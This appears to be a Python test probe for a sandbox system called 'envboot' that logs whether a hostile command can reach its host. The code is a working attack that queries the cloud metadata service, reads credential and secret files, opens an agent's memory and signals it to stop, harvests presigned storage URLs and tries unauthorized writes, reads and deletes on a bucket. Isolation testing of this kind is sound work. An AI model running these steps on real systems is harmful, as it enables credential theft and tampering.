"""What a hostile command tries on its machine; prints each attempt as JSON: what, and its outcome.

An outcome is an HTTP status, the name of an error, or `done`. It runs as the command, with the
standard library only; the variable BUCKET says where the bucket is, BASE which base it is after.
"""

from __future__ import annotations

import contextlib
import errno
import glob
import gzip
import json
import os
import re
import subprocess
import urllib.error
import urllib.parse
import urllib.request
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Callable

ATTEMPTS: list[tuple[str, int | str]] = []


def attempt(what: str, function: Callable[..., Any], *words: Any, **more: Any) -> Any:
    """Try something and keep how it went; returns what it returned, None where it failed."""
    result = None
    try:
        result = function(*words, **more)
        outcome: int | str = result[0] if isinstance(result, tuple) else "done"
    except urllib.error.HTTPError as error:
        outcome = error.code
    except (OSError, subprocess.SubprocessError) as error:
        number = getattr(getattr(error, "reason", error), "errno", None)
        outcome = errno.errorcode.get(number or 0, repr(error))
    ATTEMPTS.append((what, outcome))
    return result


def ask(method: str, url: str, data: bytes | None = None, **headers: str) -> tuple[int, bytes]:
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    request = urllib.request.Request(url, data, named, method=method)
    with urllib.request.urlopen(request, timeout=10) as answer:
        return answer.status, answer.read()


def ask_metadata(address: str) -> bytes:
    url = f"http://{address}/latest/"
    _, token = ask("PUT", url + "api/token", X_aws_ec2_metadata_token_ttl_seconds="60")
    return ask("GET", url + "user-data", X_aws_ec2_metadata_token=token.decode())[1]


def read(path: str) -> bytes:
    with open(path, "rb") as stream:
        return stream.read(1 << 22)


def create(path: str) -> None:
    os.close(os.open(path, os.O_WRONLY | os.O_CREAT))


def send_form(form: dict[str, Any], key: str) -> tuple[int, bytes]:
    fields = {**form["fields"], "key": key, "file": "{}"}
    part = '--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s'
    body = "\r\n".join([*(part % pair for pair in fields.items()), "--x--\r\n"])
    kind = "multipart/form-data; boundary=x"
    return ask("POST", form["url"], body.encode(), Content_Type=kind)


found = [
    attempt(f"metadata service at {address}", ask_metadata, address) or b""
    for address in ("169.254.169.254", "[fd00:ec2::254]")
]

# What the machine keeps, and what its agent knows.
attempt("list /var/lib/envboot", os.listdir, "/var/lib/envboot")
private = [f"/var/lib/envboot/{name}.json" for name in ("grants", "config", "permit", "seat")]
for path in (
    *private,
    "/var/lib/cloud/instance/user-data.txt",
    "/var/lib/cloud/instance/boothooks/envboot.sh",
    "/run/cloud-init/instance-data-sensitive.json",
):
    attempt(f"read {path}", read, path)
agents = 0
for place in glob.glob("/proc/[0-9]*"):
    with contextlib.suppress(OSError):
        if b"/opt/envboot/lib" not in read(f"{place}/cmdline") or os.stat(place).st_uid:
            continue
        agents += 1
        for name in ("environ", "mem"):
            attempt(f"{name} of the agent", os.open, f"{place}/{name}", os.O_RDONLY)
        attempt("open files of the agent", os.listdir, f"{place}/fd")
        attempt("a signal to the agent", os.kill, int(place[6:]), 15)
assert agents
for folder in ("/etc", "/run", "/var", "/opt/envboot/lib", "/home", "/usr/local"):
    for above, _, names in os.walk(folder):
        for path in (f"{above}/{name}" for name in names):
            if os.path.isfile(path):
                with contextlib.suppress(OSError):
                    found.append(read(path))
journal = ["journalctl", "--no-pager", "-o", "json", "--all"]
found += [subprocess.run(journal, capture_output=True, check=False).stdout]
found += [json.dumps(dict(os.environ)).encode()]
texts = (gzip.decompress(data) if data[:2] == b"\x1f\x8b" else data for data in found)
text = b"\n".join(texts).decode(errors="replace")
urls = sorted(set(re.findall(r"https?://[^\s\"'\\]*X-Amz-Signature=[0-9a-f]+", text)))

# Other programs' rights, and the disk.
attempt("sudo", subprocess.run, ["sudo", "-n", "id"], check=True)
for folder in ("/opt/envboot/env", "/opt/envboot/lib", "/var/lib/envboot", "/run/envboot"):
    attempt(f"create {folder}/x", create, f"{folder}/x")
for path in [*glob.glob("/opt/envboot/publish-*/bin/python*"), "/opt/envboot/env/bin/python"]:
    attempt(f"write {path}", os.open, path, os.O_WRONLY)

# The bucket, by every signature: for its own key, and for others' keys.
bucket, launch = os.environ["BUCKET"], "unknown"
base = [*re.findall(r"/base/([0-9a-f]{64})/", text), os.environ.get("BASE", "unknown")][0]
forms = []
for match in re.findall(r"(?m)^\{.*\"grants_version\".*\}$", text):
    grants = json.loads(match)
    launch = grants["launch"]
    forms.append(grants["report"])
names = ["env.tar.zst", "index.json", "manifest.json"]
targets = [f"base/{base}/{name}" for name in names]
names = ["wanted-1", "seats-0", "secrets/permit-0", "secrets/i-other"]
targets += [f"launches/{name}/{each}.json" for name in (launch, "other") for each in names]
targets += ["names/team/00000001.json", "reports/other/i-1/1-result.json"]
for target in targets:
    for method in ("PUT", "GET"):
        data = b"{}" if method == "PUT" else None
        attempt(f"{method} {target}, unsigned", ask, method, f"{bucket}/{target}", data)
for url in urls:
    parts = urllib.parse.urlsplit(url)
    key = parts.path.removeprefix(urllib.parse.urlsplit(bucket).path + "/")
    attempt(f"PUT {key}", ask, "PUT", url, b"{}")
    attempt(f"PUT {key}, new", ask, "PUT", url, b"{}", If_None_Match="*")
    if "/permit-" in key:
        attempt(f"GET {key}", ask, "GET", url)
    for target in set(targets) - {key}:
        other = f"{bucket}/{target}?{parts.query}"
        for method in ("PUT", "DELETE", "GET"):
            data = b"{}" if method == "PUT" else None
            attempt(f"{method} {target}, signed for {key}", ask, method, other, data)
for form in forms:
    for target in targets:
        root = form["prefix"].partition("reports/")[0]
        attempt(f"POST {target}", send_form, form, root + target)
print(json.dumps({"urls": len(urls), "attempts": ATTEMPTS}))
